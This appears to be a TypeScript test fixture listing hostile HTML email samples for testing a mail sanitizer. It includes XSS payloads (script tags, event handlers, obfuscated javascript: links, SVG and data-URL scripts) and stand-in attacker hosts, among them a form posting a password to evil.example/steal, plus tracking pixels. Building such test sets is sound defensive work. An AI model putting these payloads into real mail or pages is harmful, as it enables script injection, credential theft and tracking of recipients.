/** Hostile HTML mail: every way of running script, fetching, or navigating that mail has been known to use. */
export const HOSTILE: Record<string, string> = {
  script: '<p>hi</p><script>window.pwned = 1</script>',
  eventHandler: '<img src="data:image/png;base64,iVBORw0KGgo=" onerror="window.pwned=1"><div onmouseover="window.pwned=1">x</div><body onload="window.pwned=1">',
  javascriptLink: '<a href="javascript:window.pwned=1">click</a><a href="JaVaScRiPt&#58;window.pwned=1">again</a>',
  cssExpression: '<div style="width: expression(window.pwned=1); background: url(javascript:window.pwned=1)">css</div><style>body{background:url(https://evil.example/track)}</style>',
  svg: '<svg onload="window.pwned=1"><script>window.pwned=1</script><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  dataUrl: '<a href="data:text/html,<script>window.pwned=1</script>">data</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  form: '<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example">Go</button></form>',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  iframe: '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="x.swf"></object><embed src="x.swf">',
  base: '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  remoteImage: '<img src="https://tracker.example/pixel.gif" alt="logo"><img src="http://tracker.example/p.gif">',
};
